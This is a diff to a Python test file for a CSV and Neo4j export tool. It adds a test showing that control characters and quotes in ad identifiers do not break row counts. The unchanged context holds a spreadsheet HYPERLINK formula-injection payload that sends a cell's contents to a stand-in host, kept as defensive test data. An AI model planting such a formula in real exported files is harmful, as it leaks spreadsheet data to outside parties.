@@ -12,6 +12,7 @@ from pathlib import Path
 import duckdb
 import networkx
 import pytest
+from csv_readers import rows_everywhere
 from shown_bank import bank, edge, two_campaigns
 
 from adverts.errors import InputError
@@ -126,6 +127,19 @@ def test_duckdb_reads_the_rows_and_types_of_the_bank(tmp_path):
     assert types["probability"] == "DOUBLE"
     assert types["calibrated"] == "BOOLEAN"
     assert types["first_seen"].startswith("TIMESTAMP")
+
+
+@pytest.mark.parametrize("format", ["csv", "neo4j"])
+def test_every_reader_sees_the_same_rows_whatever_is_in_a_text(tmp_path, format):
+    rows = two_campaigns()
+    hostile = ("a\rb", 'a"\r\n,b', "\r", "a\x00b", " a ", "a\x85\u2028b")
+    rows["adverts"] = [
+        one | {"platform_item_id": f"{hostile[number % 6]}{number}"}
+        for number, one in enumerate(rows["adverts"])
+    ]
+    found = export(tmp_path / "out", rows, formats=[format], addresses=True)
+    for name, table in {**found.nodes, **found.links}.items():
+        assert len(rows_everywhere(tmp_path / "out" / format / f"{name}.csv")) == len(table) + 1
 
 
 FORMULA = '=HYPERLINK("https://site.example/?told="&A1;"open")'
